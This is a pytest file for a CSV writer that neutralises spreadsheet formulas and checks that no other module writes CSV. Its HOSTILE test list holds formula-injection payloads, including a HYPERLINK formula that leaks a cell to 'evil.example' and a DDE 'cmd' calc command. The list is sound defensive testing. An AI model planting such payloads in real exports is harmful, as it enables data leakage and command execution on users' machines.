"""The one CSV writer: formulas are neutralised, our numbers stay numbers, and nothing else writes CSV."""

from __future__ import annotations

import ast
import csv
import io
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest

from partnercenter.csv_writer import BYTE_ORDER_MARK, CsvLines, csv_cell, csv_document

ROOT = Path(__file__).resolve().parent.parent
THE_WRITER = ROOT / "partnercenter" / "csv_writer.py"
# Not the product's code: the virtual environment, tool folders, and the tests (which build hostile uploads).
NOT_SCANNED = {".venv", ".tools", ".git", "node_modules", "tests", "var", "staticfiles"}

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\tplain after a tab",
    "\rplain after a carriage return",
    "=cmd|' /C calc'!A0",
    "-1",  # text that looks like a number is text: someone typed it
]
AFTER_WHITESPACE = [" =1+1", "   @SUM(1)", " +1", " -1", "\n=1+1", "\u3000=1+1", " \t =HYPERLINK(1)"]


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK))))


@pytest.mark.parametrize("value", HOSTILE + AFTER_WHITESPACE)
def test_a_cell_a_spreadsheet_would_run_is_prefixed_with_a_single_quote(value):
    assert csv_cell(value) == "'" + value
    # ... and reads back, through CSV quoting, as exactly that text.
    assert parsed(CsvLines().row(["x", value, "y"])) == [["x", "'" + value, "y"]]


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_each_dangerous_first_character_is_neutralised(prefix):
    assert csv_cell(f"{prefix}x") == f"'{prefix}x"
    assert csv_cell(f"  {prefix}x") == f"'  {prefix}x"


@pytest.mark.parametrize("value", ["Northwind Traders", "it@northwind.example", "a=b", "1+1", "株式会社ノースウィンド", "", "'=quoted"])
def test_ordinary_text_is_left_as_it_is(value):
    assert csv_cell(value) == value


def test_numbers_we_produce_stay_numbers_even_negative_ones():
    line = CsvLines().row([2, -3, 0.25, Decimal("-1.50"), None, True, datetime(2026, 1, 2, 3, 4, tzinfo=UTC)])
    assert line == "2,-3,0.25,-1.50,,True,2026-01-02T03:04:00+00:00\r\n"
    assert csv_cell(-3) == -3 and csv_cell(Decimal("-1.5")) == Decimal("-1.5")


def test_commas_quotes_and_line_breaks_inside_a_cell_are_quoted():
    value = 'Contoso, "Ltd"\nTokyo'
    assert parsed(CsvLines().row([value, 1])) == [[value, "1"]]


def test_a_document_starts_with_a_byte_order_mark_unless_asked_not_to():
    assert csv_document([["a", "=b"]]) == BYTE_ORDER_MARK + "a,'=b\r\n"
    assert csv_document([["a"], [1]], byte_order_mark=False) == "a\r\n1\r\n"


def test_lines_are_formatted_one_at_a_time_for_streaming():
    lines = CsvLines()
    assert [lines.row(["h"]), lines.row(["@x"])] == ["h\r\n", "'@x\r\n"]


# --- Nothing but the one module writes CSV -----------------------------------------------------------


def _product_python_files() -> list[Path]:
    return [path for path in ROOT.rglob("*.py") if not NOT_SCANNED & set(path.relative_to(ROOT).parts)]


def _csv_writers_in(source: str) -> list[int]:
    """Lines that reach for csv.writer / csv.DictWriter (by attribute, by import, or under another name)."""
    tree = ast.parse(source)
    csv_names = {"csv"}
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            csv_names |= {alias.asname or alias.name for alias in node.names if alias.name == "csv"}
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            found += [node.lineno for alias in node.names if alias.name in {"writer", "DictWriter", "*"}]
        if (isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"}
                and isinstance(node.value, ast.Name) and node.value.id in csv_names):
            found.append(node.lineno)
    return found


def test_the_scan_finds_every_way_of_reaching_a_csv_writer():
    assert _csv_writers_in("import csv\ncsv.writer(f)\n") == [2]
    assert _csv_writers_in("import csv as c\nw = c.DictWriter(f, [])\n") == [2]
    assert _csv_writers_in("from csv import writer\n") == [1]
    assert _csv_writers_in("import csv\ncsv.reader(f)\n") == []


def test_no_module_but_the_one_writer_uses_csv_writer():
    files = _product_python_files()
    assert THE_WRITER in files and len(files) > 100  # the scan does see the code base
    offenders = {
        str(path.relative_to(ROOT)): lines
        for path in files
        if path != THE_WRITER and (lines := _csv_writers_in(path.read_text(encoding="utf-8")))
    }
    assert offenders == {}, "write CSV through partnercenter.csv_writer (it neutralises spreadsheet formulas)"
    assert _csv_writers_in(THE_WRITER.read_text(encoding="utf-8"))
